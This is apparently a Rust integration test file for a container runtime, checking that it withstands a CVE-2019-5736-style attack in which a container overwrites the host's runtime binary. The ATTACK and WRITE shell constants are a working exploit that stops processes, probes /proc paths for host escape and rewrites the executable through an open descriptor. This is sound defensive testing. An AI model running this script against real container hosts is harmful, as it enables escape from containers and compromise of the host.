//! The host's program file stays as it is, whatever a container does while we are in it.
//!
//! An attacker is process 1 of a container: it stops every process that appears in its PID namespace, opens its
//! `/proc/PID/exe`, lets it go on, and writes to the file as soon as nobody executes it any more (CVE-2019-5736).

mod common;
#[path = "common/hostile.rs"]
mod hostile;

use common::{Bed, Ran, finish, id, until};
use hostile::Canary;
use serde_json::json;
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::PathBuf;
use std::process::Command;

/// Stops, looks for a way to the host's files, opens and overwrites. Says `ESCAPED by WAY`, `caught EXE` for what could be opened, and `WROTE EXE` for a success.
const ATTACK: &str = r#"
    while [ ! -e /out/stop ]; do
        kill -STOP -1 2>/dev/null
        for p in /proc/[0-9]*; do
            [ $p = /proc/1 ] && continue
            exe=$(readlink $p/exe 2>/dev/null)
            case "$exe" in */busybox | '') continue ;; esac
            up=/../../../../../../../..
            for way in $p/root $p/cwd$up $p/fd/*$up; do
                [ -e "$way$CANARY/passwd" ] && echo "ESCAPED by $way" >> /out/log
            done
            mkdir "/out/seen${p#/proc}${exe##*/}" 2>/dev/null || continue
            sh /out/write "$exe" 9<$p/exe 2>/dev/null &
        done
        kill -CONT -1 2>/dev/null
    done
    wait
"#;

/// With the file open as descriptor 9: write to it, for as long as it may still be executed.
const WRITE: &str = r#"
    echo "caught $1" >> /out/log
    n=0
    while [ $n -lt 100 ]; do
        if echo overwritten 2>/dev/null 1<>/proc/self/fd/9; then echo "WROTE $1" >> /out/log; exit; fi
        n=$((n + 1)); sleep 0.01
    done
"#;

/// An attacker, and a copy of the runtime for it to hit.
struct Attack {
    canary: Canary,
    bed: Bed,
    name: String,
    runtime: PathBuf,
    user_namespace: bool,
}

impl Attack {
    fn new(user_namespace: bool) -> Self {
        let mut bed = Bed::new(ATTACK);
        let canary = Canary::new();
        bed.config["process"]["env"] = json!(["PATH=/bin", format!("CANARY={}", canary.path().display())]);
        let out = bed.path("out");
        fs::create_dir_all(out.join("seen")).expect("a directory");
        for dir in [&out, &out.join("seen")] {
            fs::set_permissions(dir, fs::Permissions::from_mode(0o777)).expect("for everybody");
        }
        fs::write(out.join("write"), WRITE).expect("a script");
        let runtime = bed.path("victim");
        fs::copy(env!("CARGO_BIN_EXE_gantry-runtime"), &runtime).expect("a copy");
        fs::set_permissions(&runtime, fs::Permissions::from_mode(0o777)).expect("writable by everybody");
        let all = json!(["CAP_SYS_PTRACE", "CAP_KILL", "CAP_DAC_OVERRIDE", "CAP_FOWNER"]);
        bed.config["process"]["capabilities"] = json!({"bounding": all, "effective": all, "permitted": all});
        let mounts = bed.config["mounts"].as_array_mut().expect("mounts");
        mounts.push(json!({"destination": "/out", "type": "bind", "source": out, "options": ["rbind"]}));
        if user_namespace {
            own_users(&mut bed);
        }
        symlink("/proc/self/exe", bed.rootfs("bin/link")).expect("a link");
        fs::write(bed.rootfs("bin/script"), "#!/proc/self/exe\n").expect("a script");
        fs::set_permissions(bed.rootfs("bin/script"), fs::Permissions::from_mode(0o755)).expect("its mode");
        Self { canary, bed, name: id("attack"), runtime, user_namespace }
    }

    /// The copy of the runtime, on the state root of the bed.
    fn runtime(&self, args: &[&str]) -> Ran {
        let mut command = Command::new(&self.runtime);
        command.arg("--root").arg(self.bed.path("state")).args(args).current_dir(self.bed.bundle());
        finish(command.stdin(std::process::Stdio::null()))
    }

    fn log(&self) -> String {
        fs::read_to_string(self.bed.path("out/log")).unwrap_or_default()
    }

    /// Programs that are our own file.
    fn programs() -> [&'static str; 3] {
        ["/proc/self/exe", "/bin/link", "/bin/script"]
    }

    /// Let it come to its end, which is after the last attempt to write, then see what it has done.
    ///
    /// - `looks`: whether it may have looked at files of the host. That is what a container with `CAP_SYS_PTRACE` can do
    ///   to one that shares its PID namespace, as `docs/runtime.md` says.
    fn end(&self, looks: bool) {
        fs::write(self.bed.path("out/stop"), "").expect("a file");
        self.bed.wait_for_status(&self.name, "stopped");
        self.check(looks);
    }

    fn check(&self, looks: bool) {
        let before = fs::read(env!("CARGO_BIN_EXE_gantry-runtime")).expect("the original");
        assert!(fs::read(&self.runtime).expect("the copy") == before, "the host's file was changed: {}", self.log());
        assert!(!self.log().contains("WROTE") && (looks || !self.log().contains("ESCAPED")), "{}", self.log());
        self.canary.assert_untouched("files of the host");
    }
}

fn own_users(bed: &mut Bed) {
    let chown = Command::new("chown").args(["-R", "100000:100000"]).arg(bed.rootfs("")).status();
    assert!(chown.expect("chown").success());
    let map = json!([{"containerID": 0, "hostID": 100_000, "size": 65_536}]);
    bed.config["linux"]["uidMappings"] = map.clone();
    bed.config["linux"]["gidMappings"] = map;
    bed.config["linux"]["namespaces"].as_array_mut().expect("namespaces").push(json!({"type": "user"}));
}

#[test]
fn the_attack_works_on_an_ordinary_file() {
    let attack = Attack::new(false);
    attack.bed.save();
    let tool = attack.bed.path("out/busybox-tool");
    fs::copy("/bin/busybox", &tool).expect("a copy");
    let ran = attack.runtime(&["run", "-d", &attack.name]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    let ran = attack.runtime(&["exec", "-d", "--pid-file", "tool", &attack.name, "/out/busybox-tool", "sleep", "1000"]);
    assert_eq!(ran.code, 0, "{}", ran.err);
    until("the tool is caught", || attack.log().contains("caught /out/busybox-tool"));
    let pid = fs::read_to_string(attack.bed.bundle().join("tool")).expect("its number").parse().expect("a number");
    common::signal(pid, 9);
    until("the tool is overwritten", || attack.log().contains("WROTE /out/busybox-tool"));
    assert!(fs::read(&tool).expect("the tool").starts_with(b"overwritten"));
}

#[test]
fn exec_into_an_attacker() {
    for user_namespace in [false, true] {
        let attack = Attack::new(user_namespace);
        attack.bed.save();
        let ran = attack.runtime(&["run", "-d", &attack.name]);
        assert_eq!(ran.code, 0, "{}", ran.err);
        // Caught on its way into the container, which lasts a moment.
        for _ in 0..10 {
            assert_eq!(attack.runtime(&["exec", &attack.name, "true"]).code, 0);
        }
        // Caught as a program in the container, for as long as the attacker likes.
        for program in Attack::programs() {
            let ran = attack.runtime(&["exec", &attack.name, program, "--version"]);
            assert!(!ran.err.contains("panicked"), "{program}: {}", ran.err);
        }
        if !attack.user_namespace {
            until("it has caught us", || {
                assert_eq!(attack.runtime(&["exec", &attack.name, "true"]).code, 0);
                attack.log().contains("caught")
            });
        }
        attack.end(false);
    }
}

#[test]
fn run_beside_an_attacker() {
    for user_namespace in [false, true] {
        let attack = Attack::new(user_namespace);
        attack.bed.save();
        let ran = attack.runtime(&["run", "-d", &attack.name]);
        assert_eq!(ran.code, 0, "{}", ran.err);
        let pid = attack.bed.pid(&attack.name);
        let beside = |program: &str| {
            // Another container in the attacker's PID namespace, with an image of the attacker's.
            let mut config = attack.bed.config.clone();
            config["process"]["args"] = json!([program, "--version"]);
            for namespace in config["linux"]["namespaces"].as_array_mut().expect("namespaces") {
                if namespace["type"] == "pid" || namespace["type"] == "user" {
                    let kind = namespace["type"].as_str().expect("a type").to_owned();
                    *namespace = json!({"type": kind, "path": format!("/proc/{pid}/ns/{kind}")});
                }
            }
            fs::write(attack.bed.bundle().join("config.json"), config.to_string()).expect("config.json");
            let ran = attack.runtime(&["run", &id("beside")]);
            // As a script, it takes its own name for a command.
            assert!(
                ran.out.contains("gantry-runtime version") || ran.err.contains("no command `/bin/script`"),
                "{ran:?}"
            );
        };
        Attack::programs().into_iter().for_each(beside);
        if !attack.user_namespace {
            until("it has caught us", || {
                beside("/proc/self/exe");
                attack.log().contains("caught")
            });
        }
        attack.end(!user_namespace);
    }
}

#[test]
fn an_added_process_that_may_trace_is_remembered() {
    let bed = Bed::new("sleep 100000");
    let name = id("added");
    bed.ok(&["run", "-d", &name]);
    let mark = bed.path("state").join(&name).join("traced");
    bed.ok(&["exec", "--cap", "CAP_KILL", &name, "true"]);
    assert!(!mark.exists(), "nobody may look");
    bed.ok(&["exec", "-d", "--cap", "CAP_SYS_PTRACE", &name, "sleep", "100000"]);
    assert!(mark.exists(), "who comes now may be looked at");
    // It appears with nothing of the host left, by way of a process between, and is like any other.
    assert_eq!(bed.run(&["exec", &name, "sh", "-c", "exit 9"]).code, 9);
    assert_eq!(bed.ok(&["exec", &name, "readlink", "/proc/self/root"]), "/\n");
    bed.ok(&["delete", "--force", &name]);
    bed.assert_gone(&name);
}

#[test]
fn exec_into_a_container_that_may_trace_is_like_any_other() {
    let mut bed = Bed::new("sleep 100000");
    let all = json!(["CAP_SYS_PTRACE", "CAP_KILL"]);
    bed.config["process"]["capabilities"] = json!({"bounding": all, "effective": all, "permitted": all});
    let name = id("trace");
    bed.ok(&["run", "-d", &name]);
    for kind in ["pid", "net", "ipc", "uts", "mnt", "cgroup"] {
        let inside = bed.ok(&["exec", &name, "readlink", &format!("/proc/self/ns/{kind}")]);
        let want = fs::read_link(format!("/proc/{}/ns/{kind}", bed.pid(&name))).expect("a namespace");
        assert_eq!(inside.trim(), want.display().to_string(), "{kind}");
    }
    let cgroup = bed.ok(&["exec", &name, "cat", "/proc/self/cgroup"]);
    assert!(cgroup.lines().all(|line| line.ends_with(":/")), "in the container's cgroups: {cgroup}");
    assert_eq!(bed.run(&["exec", &name, "sh", "-c", "exit 9"]).code, 9);
    assert_eq!(bed.run(&["exec", &name, "nothing"]).code, 127);
    assert_eq!(bed.run(&["exec", "-t", &name, "sh", "-c", "tty; exit 4"]).code, 4);
    let mut shell = Command::new("sh");
    shell.args(["-c", "exec 3</etc/hostname 4</; exec \"$@\"", "sh", env!("CARGO_BIN_EXE_gantry-runtime"), "--root"]);
    shell.arg(bed.path("state")).args(["exec", "--preserve-fds", "1", &name, "sh", "-c", "cat <&3; ls /proc/self/fd"]);
    let ran = finish(shell.current_dir(bed.bundle()));
    assert_eq!(ran.out, fs::read_to_string("/etc/hostname").expect("a name") + "0\n1\n2\n3\n4\n", "{ran:?}");
    bed.ok(&["exec", "-d", "--pid-file", "exec-pid", &name, "sleep", "100000"]);
    let pid: i32 = fs::read_to_string(bed.bundle().join("exec-pid")).expect("a pid").parse().expect("a number");
    assert!(common::runs(pid));
    bed.ok(&["delete", "--force", &name]);
    until("it is gone", || !common::runs(pid));
}
